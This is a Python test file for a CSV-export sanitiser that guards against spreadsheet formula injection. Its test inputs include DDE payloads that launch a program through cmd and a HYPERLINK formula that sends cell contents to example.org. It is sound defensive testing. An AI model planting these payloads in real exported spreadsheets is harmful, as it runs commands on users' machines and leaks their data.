"""No text of a table is run by a spreadsheet, and numbers stay numbers."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.text_tables import safe, written
from pages.shared import downloads

HOSTILE = (
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "name\r=1+1",
    "  =1+1",
    "＝1+1",
    "-",
    "--1",
    "-1e5x",
)


def quoted(text):
    """As it stands in the file: an apostrophe, unless its first line is harmless; a bare return is a new line."""
    return ("" if text.startswith("name") else "'") + text.replace("\r", "\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text):
    assert safe(text) == quoted(text)


@pytest.mark.parametrize("cell", [
    -3, 2.5, None, float("-inf"), "-3", "+1e5", "-.5", "-1×2", "-0.5×-0.5", "conv1", "", "a=b", "−1", "1 −1", "中文",
])  # fmt: skip
def test_numbers_and_harmless_texts_stay_as_they_are(cell):
    assert safe(cell) == cell


@given(st.text(max_size=30))
def test_a_text_is_never_lost_and_never_begins_a_formula(text):
    written_as = safe(text)
    assert written_as.removeprefix("'") == text.replace("\r\n", "\n").replace("\r", "\n").removeprefix("'")
    if written_as.strip()[:1] in tuple("=+-@"):
        float(written_as.split("×")[0])  # then it is a number


def test_every_cell_of_a_table_is_safe_its_head_too():
    table = list(csv.reader(io.StringIO(written(["=a", "b"], [[text, -1] for text in HOSTILE]), newline="")))
    assert table[0] == ["'=a", "b"]
    assert [row[0] for row in table[1:]] == list(map(quoted, HOSTILE))
    assert {row[1] for row in table[1:]} == {"-1"}


def test_a_saved_data_frame_is_safe_and_its_numbers_are_exact():
    numbers = np.random.default_rng(0).normal(size=len(HOSTILE))
    table = pd.DataFrame({"=run": HOSTILE, "loss": numbers, "epochs": -np.arange(len(HOSTILE))})
    text = downloads.csv(table).decode("utf-8-sig")
    head, *rows = csv.reader(io.StringIO(text, newline=""))
    assert head == ["'=run", "loss", "epochs"]
    assert [row[0] for row in rows] == list(map(quoted, HOSTILE))
    assert [float(row[1]) for row in rows] == numbers.tolist()
    assert [int(row[2]) for row in rows] == [-place for place in range(len(HOSTILE))]
